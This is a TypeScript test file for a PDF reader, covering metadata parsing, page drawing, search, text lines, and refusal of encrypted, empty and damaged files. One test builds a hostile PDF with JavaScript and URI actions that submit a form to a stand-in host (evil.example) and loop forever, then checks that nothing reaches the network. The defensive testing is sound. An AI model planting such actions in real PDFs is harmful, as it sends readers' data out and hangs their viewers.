/** Facts, outline, pages and text of PDFs are read, and hostile ones are refused or do nothing. */
import assert from 'node:assert/strict';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import sharp from 'sharp';
import { Failure } from '../failure.ts';
import { createProcesses } from '../process.ts';
import { quietLog } from '../process/testing.ts';
import { readPdf } from './pdf.ts';
import type { BookMatch, DrawnPage, OpenedBook, PageText } from './questions.ts';
import { answerAbout } from './read.ts';
import { type BookFile, createBookReader } from './reader.ts';
import { LOCKED, makePdf } from './testing-pdf.ts';
import { builtHelper } from '../../../test/built-helpers.ts';

const none = { get: () => undefined, set: () => {} };
const cache = { packages: none, packed: none };
const readAtOf = (file: Buffer) => (into: Buffer, at: number) => file.copy(into, 0, at, at + into.length);
const facts = (file: Buffer) => readPdf(file.length, readAtOf(file));
const ask = (file: Buffer, question: object) =>
  answerAbout(
    { path: '', ...question } as Parameters<typeof answerAbout>[0],
    { size: file.length, readAt: readAtOf(file), key: '' },
    cache,
  );
const found = async <T>(file: Buffer, question: object): Promise<T> => {
  const answer = await ask(file, question);
  assert.ok('found' in answer, 'refused' in answer ? answer.refused : '');
  return answer.found as T;
};

const XMP =
  '<?xpacket begin=""?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="r"><rdf:Description xmlns:dc="d">' +
  '<dc:title><rdf:Alt><rdf:li xml:lang="x-default">The Tide Tables</rdf:li></rdf:Alt></dc:title>' +
  '<dc:creator><rdf:Seq><rdf:li>Ada Writer</rdf:li><rdf:li>Bo Artist</rdf:li></rdf:Seq></dc:creator>' +
  '<dc:date><rdf:Seq><rdf:li>2019-05-03T10:00:00Z</rdf:li></rdf:Seq></dc:date><dc:language>en</dc:language>' +
  '<dc:identifier>urn:isbn:978-0-14-143961-7</dc:identifier>' +
  '<calibre:series><rdf:value>Harbour Tales</rdf:value><calibreSI:series_index>2.00</calibreSI:series_index>' +
  '</calibre:series></rdf:Description></rdf:RDF></x:xmpmeta>';
const BOOK = {
  title: 'From the information',
  pages: [['The lighthouse stands', 'on a rock.'], ['A white rabbit ran', 'past the ship.'], ['Rabbit (again)']],
  outline: [
    { title: 'The light', page: 0 },
    { title: 'The rabbit', page: 1 },
  ],
};

test('a PDF states its title, authors, series and ISBN in XMP, which has precedence', async () => {
  assert.deepEqual(await facts(makePdf({ ...BOOK, xmp: XMP })), {
    format: 'pdf',
    title: 'The Tide Tables',
    authors: ['Ada Writer', 'Bo Artist'],
    contributors: [],
    published: '2019-05-03',
    language: 'en',
    isbn: '9780141439617',
    subjects: [],
    series: 'Harbour Tales',
    volume: { text: '2', number: 2 },
    cover: 'page 1',
    pages: 3,
  });
});

test('an older PDF states title and authors in its information; names of files are no titles', async () => {
  const { title, authors } = await facts(makePdf({ ...BOOK, author: 'Writer, Ada; Bo Artist' }));
  assert.deepEqual([title, authors], ['From the information', ['Writer, Ada', 'Bo Artist']]);
  for (const invented of ['Microsoft Word - draft', 'untitled', 'thesis-final.tex'])
    assert.equal((await facts(makePdf({ ...BOOK, title: invented }))).title, undefined, invented);
});

test('a PDF is opened, drawn and searched', async () => {
  const file = makePdf(BOOK);
  assert.deepEqual(await found<OpenedBook>(file, { do: 'open' }), {
    kind: 'pdf',
    contents: [
      { title: 'The light', part: 0, depth: 0 },
      { title: 'The rabbit', part: 1, depth: 0 },
    ],
    parts: 3,
  });
  const { pixels, width, height } = await found<DrawnPage>(file, { do: 'page', page: 1, width: 640 });
  assert.deepEqual([width, height, pixels.length], [640, 907, 640 * 907 * 3]);
  const { entropy } = await sharp(pixels, { raw: { width, height, channels: 3 } }).stats();
  assert.ok(entropy > 0.01, `a page without ink has 0: ${entropy}`);
  const matches = await found<BookMatch[]>(file, { do: 'search', text: 'RABBIT', limit: 10 });
  assert.deepEqual(
    matches.map(({ part, before, match }) => [part, before, match]),
    [
      [1, 'A white ', 'rabbit'],
      [2, '', 'Rabbit'],
    ],
  );
  const across = await found<BookMatch[]>(file, { do: 'search', text: 'ran past', limit: 10 });
  assert.equal(across.length, 1, 'a match may begin on one line and end on the next');
  const text = await found<PageText>(file, { do: 'text', page: 0 });
  assert.deepEqual(
    text.lines.map((line) => line.text),
    ['The lighthouse stands', 'on a rock.'],
  );
  const [first, second] = text.lines;
  assert.ok(first && second && first.y < second.y && Math.abs(first.x - 40 / 420) < 0.01, JSON.stringify(text));
  for (const question of [
    { do: 'page', page: 3 },
    { do: 'text', page: 3 },
    { do: 'part', part: 0 },
  ])
    assert.deepEqual(await ask(file, question), { refused: 'missing' });
});

test('a page of any size is drawn within the bound of pixels', async () => {
  for (const size of [
    [14_400, 14_400],
    [3, 14_400],
    [14_400, 3],
  ] as const) {
    const { width, height } = await found<DrawnPage>(makePdf({ ...BOOK, size }), { do: 'page', page: 0, width: 4000 });
    assert.ok(width * height <= 24_100_000, `${width} × ${height}`);
  }
});

test('a PDF that needs a password is refused, and says so', async () => {
  // The check values of any password but the empty one.
  const encrypted = makePdf({
    ...BOOK,
    trailer: LOCKED,
  });
  assert.deepEqual(await ask(encrypted, { do: 'open' }), { refused: 'encrypted' });
  await assert.rejects(facts(encrypted), { isEncrypted: true });
});

test('scripts and addresses of a PDF do nothing', async () => {
  const asked: string[] = [];
  const { fetch } = globalThis;
  globalThis.fetch = (address) => (asked.push(JSON.stringify(address)), Promise.reject(new Error('refused')));
  const script = 'this.submitForm("https://evil.example/");app.alert(1);while(true){}';
  const file = makePdf({
    ...BOOK,
    catalogue:
      `/OpenAction<</S/JavaScript/JS(${script.replaceAll(/[()]/g, '\\$&')})>>` +
      '/AA<</WC<</S/URI/URI(https://evil.example/)>>>>' +
      '/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(while\\(1\\);)>>]>>>>',
  });
  const { contents } = await found<OpenedBook>(file, { do: 'open' });
  assert.equal(contents.length, 2);
  await found(file, { do: 'page', page: 0 });
  globalThis.fetch = fetch;
  assert.deepEqual(asked, []);
});

test('damaged PDFs fail their own question only, whatever byte is damaged', async (t) => {
  const root = await mkdtemp(join(tmpdir(), 'books-'));
  t.after(() => rm(root, { recursive: true }));
  const processes = await createProcesses({ log: quietLog, temporary: join(root, 'work'), helperModule: builtHelper });
  t.after(() => processes.close());
  // A helper process, as in the server: on some of these files the library itself crashes.
  const books = createBookReader({ processes });
  t.after(() => books.close());
  const whole = makePdf({ ...BOOK, xmp: XMP });
  let seed = 11;
  const random = (below: number): number => (seed = (seed * 48271) % 2147483647) % below;
  const counts = { found: 0, refused: 0 };
  const asks = [
    (file: BookFile): Promise<unknown> => books.open(file),
    (file: BookFile): Promise<unknown> => books.page(file, { page: 1, width: 64 }),
    (file: BookFile): Promise<unknown> => books.text(file, 0),
  ];
  for (let round = 0; round < 120; round++) {
    const damaged = Buffer.from(round % 3 === 0 ? whole.subarray(0, random(whole.length)) : whole);
    for (let n = 0; n < 6 && damaged.length > 8; n++) damaged[8 + random(damaged.length - 8)] = random(256);
    const relative = `${round}.pdf`;
    await writeFile(join(root, relative), damaged);
    const answered = asks[round % 3]?.({ root, relative });
    await answered?.then(
      () => counts.found++,
      (error: unknown) => {
        assert.ok(error instanceof Failure, String(error));
        counts.refused++;
      },
    );
  }
  assert.ok(counts.found > 20 && counts.refused > 5, JSON.stringify(counts));
  await writeFile(join(root, 'whole.pdf'), whole);
  const file = { root, relative: 'whole.pdf' };
  assert.equal((await books.open(file)).parts, 3);
  const page = await books.page(file, { page: 1, width: 640 });
  const { format, width } = await sharp(page.bytes).metadata();
  assert.deepEqual([page.type, format, width], ['image/jpeg', 'jpeg', 640]);
});

test('files without a document in them are refused', async () => {
  for (const nothing of ['%PDF-1.7', '%PDF-1.7\n%%EOF', '%PDF-1.4\ntrailer<</Root 1 0 R>>'])
    assert.deepEqual(await ask(Buffer.from(nothing), { do: 'open' }), { refused: 'broken' });
});
